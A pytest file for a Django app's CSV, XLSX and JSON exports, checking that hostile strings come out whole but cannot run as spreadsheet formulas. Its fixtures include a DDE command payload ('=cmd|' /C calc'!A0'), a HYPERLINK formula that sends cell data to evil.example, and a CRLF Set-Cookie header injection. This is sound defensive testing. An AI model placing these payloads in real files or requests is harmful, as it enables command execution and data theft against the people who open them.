"""Hostile words leave whole and inert: as a statement, a quote, a link, a hypothesis, or the reason for the export."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from partnership.exports import as_csv
from partnership.exports.rules import could_be_formula, printable
from partnership.triage.actions import note_hypothesis

BLNS = Path(__file__).parents[5] / "shared/data/hostile/blns.json"
FORMATS = ["csv", "xlsx", "json"]
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
OURS = (
    *("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "＝1", '","=1', "<r>x<</r>", "\x1b=1", "\u202e=1", " =1", "'=1"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")', "x\r\n=1", "</t></si></sst>", "_x0041_"),
)


@pytest.fixture
def texts():
    """Our own list and, where it is beside the repository, the public one; without what no database holds."""
    public = json.loads(BLNS.read_text()) if BLNS.exists() else []
    return [text for text in (*OURS, *public) if text.strip() and "\x00" not in text]


def whole(text, kind):
    """The text as it should be read again from a file of that kind."""
    return text if kind == "json" else lines_of(printable(text))


def read(text, kind):
    """The text of a cell, without the apostrophe that a CSV puts before what could be run."""
    if kind == "csv":
        text = text[1:] if text[:1] == "'" and could_be_formula(text[1:]) else text
    return text if kind == "json" else lines_of(text)


def lines_of(text):
    return text.replace("\r\n", "\n").replace("\r", "\n")


def formulas_in(answer):
    """Of a CSV, fields that begin like a formula; of a workbook, formulas and links."""
    if answer.headers["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True)
        return [field for row in rows for field in row if field.lstrip(' "').startswith(DANGEROUS)]
    if answer.content.startswith(b"PK"):
        book = openpyxl.load_workbook(io.BytesIO(answer.content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        return [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    return []


@pytest.mark.parametrize("kind", FORMATS)
def test_as_statements_on_a_board(export, tables_in, bradford_chair, signal_of, texts, kind):
    for text in texts:
        signal_of(statement=text, window=(), quotes=())

    answer = export(bradford_chair, format=kind)

    told = {read(row["statement"], kind) for row in tables_in(answer)["signals"]}
    assert told == {whole(text, kind) for text in texts}
    assert formulas_in(answer) == []


@pytest.mark.parametrize("kind", FORMATS)
def test_as_quotes_titles_and_links_of_a_signal(export, tables_in, bradford_chair, signal_of, quote_of, texts, kind):
    quotes = [quote_of(rank=n, quote=text, title=text, link=text) for n, text in enumerate(texts, start=1)]
    signal = signal_of(quotes=tuple(quotes))

    answer = export(bradford_chair, reverse("triage:export-signal", args=[signal.uuid]), format=kind)

    for field in ("quote", "title", "link"):
        told = [read(row[field], kind) for row in tables_in(answer)["quotes"]]
        assert told == [whole(text, kind) for text in texts]
    assert formulas_in(answer) == []


@pytest.mark.parametrize("kind", FORMATS)
def test_as_hypotheses_and_as_the_reason_itself(export, tables_in, bradford_chair, open_signal, texts, kind):
    noted = texts[:120]
    for text in noted:
        note_hypothesis(signal=open_signal, text=text, by=bradford_chair)
    told = {"recipient": "=1+1", "agency": '"\r\nSet-Cookie: x=1', "because": "=HYPERLINK(1)"}

    answer = export(bradford_chair, reverse("triage:export-signal", args=[open_signal.uuid]), format=kind, **told)

    found = [read(row["hypothesis"], kind) for row in tables_in(answer)["hypotheses"]]
    assert found == [whole(text.strip(), kind) for text in noted]
    assert formulas_in(answer) == []
    assert not answer.cookies.get("x")


def test_a_file_whose_text_is_left_as_it_is_would_be_found(export, bradford_chair, signal_of, monkeypatch):
    monkeypatch.setattr(as_csv, "neutral", lambda text: text)
    signal_of(statement="=1+1")

    assert formulas_in(export(bradford_chair, format="csv")) == ["=1+1"]
